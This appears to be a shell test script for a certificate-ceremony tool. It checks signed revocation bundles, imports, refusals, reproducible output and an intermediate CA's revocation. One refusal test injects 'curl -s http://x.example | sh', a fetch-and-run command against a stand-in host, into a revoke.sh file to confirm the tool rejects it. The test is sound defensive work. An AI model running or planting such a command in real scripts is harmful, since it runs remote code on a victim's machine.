#!/bin/bash
# ceremony bundle --revocations and import of it: the signed archive
# (minisign, sha256sum, GNU tar), refusals (a folder not from revoke, a
# revoke.sh line revoke never writes, tampering, the wrong key), QR
# frames, same bytes for the same time, an intermediate's revocation.
. "$(dirname "$0")/../lib.sh"

d=$T/c
cer -C "$d" root --no-passphrase --key ec-p256 >/dev/null 2>&1 &&
	cer -C "$d" template --region us-east-1 --account 123456789012 --mode sni-only >/dev/null 2>&1
ok $? "ceremony dir"
for n in 1 2; do
	openssl req -new -newkey ec -pkeyopt ec_paramgen_curve:P-256 -nodes -subj "/C=US/CN=dev$n" \
		-keyout /dev/null -out "$T/dev$n.csr" 2>/dev/null
done
cer -C "$d" sign --quiet "$T/dev1.csr" "$T/dev2.csr" >/dev/null 2>&1 &&
	cer -C "$d" revoke --cn dev1 --reason keyCompromise --region us-east-1 --region eu-west-1 >/dev/null 2>&1
ok $? "dev1 revoked"
id=$(ls "$d/revocations")
pub=$(tail -1 "$d/ceremony.pub")

refuses 2 "revocations/nope/revoke.sh is missing" "not a revocations folder" -- cer -C "$d" bundle --revocations revocations/nope
cp -r "$d/revocations/$id" "$T/evil" && echo 'curl -s http://x.example | sh' >>"$T/evil/revoke.sh"
refuses 1 "revoke.sh: line [0-9]+ is not a command 'ceremony revoke' writes" "a revoke.sh line revoke never writes" -- cer -C "$d" bundle --revocations "$T/evil" --format tar
cer -C "$T/k" root --no-passphrase --key ec-p256 >/dev/null 2>&1 && cer -C "$T/k" crl >/dev/null 2>&1 &&
	cp -r "$d/revocations/$id" "$T/other" && cp "$T/k/crl.pem" "$T/other/crl.pem"
refuses 1 "not a CRL signed by the root or an intermediate" "a CRL not of this ceremony" -- cer -C "$d" bundle --revocations "$T/other" --format tar

run cer -C "$d" bundle --revocations "revocations/$id" --format tar
ok $rc "bundle --revocations"
tgz=$d/bundle/revocation-$id.tar.gz
[ -f "$tgz" ]; ok $? "bundle/revocation-<id>.tar.gz"
is "$(tar -tzf "$tgz" | sort | tr '\n' ' ')" "revocation-$id/ revocation-$id/MANIFEST revocation-$id/MANIFEST.minisig revocation-$id/README.txt revocation-$id/ceremony.pub revocation-$id/crl.pem revocation-$id/deviceRootCA.pem revocation-$id/revoke.sh revocation-$id/revoked.txt " "GNU tar lists its eight files"
mkdir -p "$T/x" && tar -xzf "$tgz" -C "$T/x"
(cd "$T/x/revocation-$id" && minisign -Vm MANIFEST -P "$pub" >/dev/null && sha256sum -c --quiet MANIFEST)
ok $? "minisign -Vm and sha256sum -c pass"
cmp -s "$T/x/revocation-$id/revoke.sh" "$d/revocations/$id/revoke.sh"; ok $? "revoke.sh as revoke wrote it"
cer -C "$d" transcript verify >/dev/null 2>&1; ok $? "the transcript verifies"
has "$(tail -1 "$d/transcript.log")" "\"revocations\":\"revocations/$id\"" "a transcript line for it"

o=$T/online
mkdir -p "$o"
refuses 2 "no pinned key" "import without a pinned key" -- cer -C "$o" import "$tgz"
other=$(tail -1 "$T/k/ceremony.pub")
refuses 1 "not signed by the pinned key" "import with another key" -- cer -C "$o" import "$tgz" --pubkey "$other"
cp "$tgz" "$T/bad.tgz" && printf 'X' | dd of="$T/bad.tgz" bs=1 seek=200 conv=notrunc 2>/dev/null
refuses 1 "." "a tampered archive" -- cer -C "$o" import "$T/bad.tgz" --pubkey "$pub"
run cer -C "$o" import "$tgz" --pubkey "$pub"
ok $rc "import verifies and unpacks"
has "$out" "revoke.sh will run 2 aws commands (2 update-certificate REVOKED" "it says what revoke.sh will do"
cid=$(openssl x509 -in "$d"/issued/*/dev1.crt -outform DER | sha256sum | cut -d' ' -f1)
has "$out" "aws iot update-certificate --certificate-id $cid --new-status REVOKED --region eu-west-1" "each command, with the certificate id"
has "$out" "CRL              number 1" "the CRL number"
[ -x "$o/revocation-$id/revoke.sh" ]; ok $? "revoke.sh unpacked, executable"
refuses 2 "exists" "import into an existing folder" -- cer -C "$o" import "$tgz" --pubkey "$pub"

# the same time gives the same bytes; QR frames carry it too
SOURCE_DATE_EPOCH=1800000000 cer -C "$d" bundle --revocations "revocations/$id" --format tar --name r1 >/dev/null 2>&1 &&
	SOURCE_DATE_EPOCH=1800000000 cer -C "$d" bundle --revocations "revocations/$id" --format tar --name r1 --force >"$T/o2" 2>&1
ok $? "bundled twice with SOURCE_DATE_EPOCH"
sha=$(sha256sum <"$d/bundle/r1.tar.gz" | cut -d' ' -f1)
has "$(cat "$T/o2")" "$sha" "the same bytes"
run cer -C "$d" bundle --revocations "revocations/$id" --format qr
ok $rc "bundle --revocations --format qr"
run cer -C "$o" import --qr "$d/bundle/qr/frames.txt" --pubkey "$pub" --out "$o/fromqr"
ok $rc "import --qr of its frames"
cmp -s "$o/fromqr/revoke.sh" "$d/revocations/$id/revoke.sh"; ok $? "the same revoke.sh"

# an intermediate's revocation
i=$d/intermediate/sub
mkdir -p "$i"
openssl req -new -newkey ec -pkeyopt ec_paramgen_curve:P-256 -nodes -subj "/C=US/CN=Sub CA" \
	-keyout "$i/deviceRootCA.key" -out "$T/sub.csr" 2>/dev/null
printf 'basicConstraints=critical,CA:TRUE,pathlen:0\nkeyUsage=critical,keyCertSign,cRLSign\nsubjectKeyIdentifier=hash\nauthorityKeyIdentifier=keyid\n' >"$T/ext"
openssl x509 -req -in "$T/sub.csr" -CA "$d/deviceRootCA.pem" -CAkey "$d/deviceRootCA.key" \
	-set_serial 0x4a5b6c7d8e9f00112233445566778899 -days 100 -extfile "$T/ext" -out "$i/deviceRootCA.pem" 2>/dev/null
cat "$i/deviceRootCA.pem" "$d/deviceRootCA.pem" >"$i/chain.pem"
cer -C "$d" revoke --intermediate sub --reason cACompromise --region ap-south-1 >/dev/null 2>&1
ok $? "intermediate revoked"
id2=$(ls "$d/revocations" | sort -t- -k4n | tail -1)
cer -C "$d" bundle --revocations "revocations/$id2" --format tar >/dev/null 2>&1
ok $? "its folder bundled"
run cer -C "$o" import "$d/bundle/revocation-$id2.tar.gz" --pubkey "$pub"
ok $rc "and imported"
has "$out" "0 update-certificate REVOKED, 1 update-ca-certificate INACTIVE, 1 list-certificates-by-ca" "deactivate the CA, list what it issued"
done_testing
